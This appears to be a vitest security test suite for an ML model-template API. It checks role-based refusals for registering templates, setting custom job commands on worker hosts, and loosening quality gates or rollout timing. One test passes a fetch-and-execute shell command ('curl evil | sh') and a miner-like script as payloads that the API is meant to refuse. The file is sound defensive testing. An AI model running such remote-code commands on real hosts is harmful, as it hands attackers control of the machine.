// Registering and revising templates needs the maintainer role; a job command of one's own (it runs on
// the worker host) and a policy looser than the current revision's need an admin.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { expectRefusal } from './app-request';
import { openControlFixture, type ControlFixture } from './control-app-fixture';
import { irisLikeTemplate } from './model-template-body';
import type { PrincipalName } from '../../test-principals';

let f: ControlFixture;
beforeAll(async () => {
  f = await openControlFixture('model-template-security');
  await f.request('POST', '/v1/models', { as: 'erin', body: { name: 'owned', ...irisLikeTemplate() } });
});
afterAll(() => f?.close());
beforeEach(() => f.reset());

describe('model template security', () => {
  it('refuse a request without a token with a 401', async () => {
    expectRefusal(await f.request('POST', '/v1/models', { body: { name: 'x', ...irisLikeTemplate() } }), 401, 'unauthorized', /missing bearer token/);
    expectRefusal(await f.request('GET', '/v1/models/owned/revisions'), 401, 'unauthorized', /missing bearer token/);
    await f.expectNothingDone();
  });

  it.each<PrincipalName>(['alice', 'bob', 'carol', 'dave'])('refuse registering or revising by %s (no maintainer role) with a 403', async (as) => {
    expectRefusal(await f.request('POST', '/v1/models', { as, body: { name: 'x', ...irisLikeTemplate() } }), 403, 'forbidden', new RegExp(`^${as} lacks the role for this: needs maintainer$`));
    expectRefusal(await f.request('PUT', '/v1/models/owned', { as, body: irisLikeTemplate() }), 403, 'forbidden', /needs maintainer/);
    await f.expectNothingDone();
  });

  it('refuse a job command of a maintainer’s own with a 403, and take it from an admin', async () => {
    const body = { name: 'own-command', ...irisLikeTemplate(), job: { command: ['bash', '-c', 'curl evil | sh'] } };
    expectRefusal(await f.request('POST', '/v1/models', { as: 'erin', body }), 403, 'forbidden', /^only an admin may set: job\.command \(a command of its own runs a process on the worker host\)$/);
    expectRefusal(await f.request('PUT', '/v1/models/owned', { as: 'erin', body: { ...irisLikeTemplate(), job: { command: ['python', 'mine.py'] } } }), 403, 'forbidden', /job\.command/);
    await f.expectNothingDone();
    expect((await f.request('POST', '/v1/models', { as: 'root', body })).status).toBe(201);
  });

  it('let a maintainer keep the command a model already runs', async () => {
    const { body } = await f.request('GET', '/v1/models/breast-cancer', { as: 'carol' });
    const res = await f.request('PUT', '/v1/models/breast-cancer', { as: 'erin', body: { ...body.template, params: { ...body.template.params, epochs: 61 } } });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.outcome).toBe('revised');
  });

  it('refuse a looser gate or rollout from a maintainer with a 403 naming each field', async () => {
    const looser = { ...irisLikeTemplate(), gate: { f1_macro: { threshold: 0.5, greater_is_better: true } }, rollout: { bakeSeconds: 1 } };
    expectRefusal(await f.request('PUT', '/v1/models/owned', { as: 'erin', body: looser }), 403, 'forbidden', /gate\.f1_macro\.threshold \(the model's gate asks at least 0\.8\); rollout\.bakeSeconds/);
    await f.expectNothingDone();
  });
});
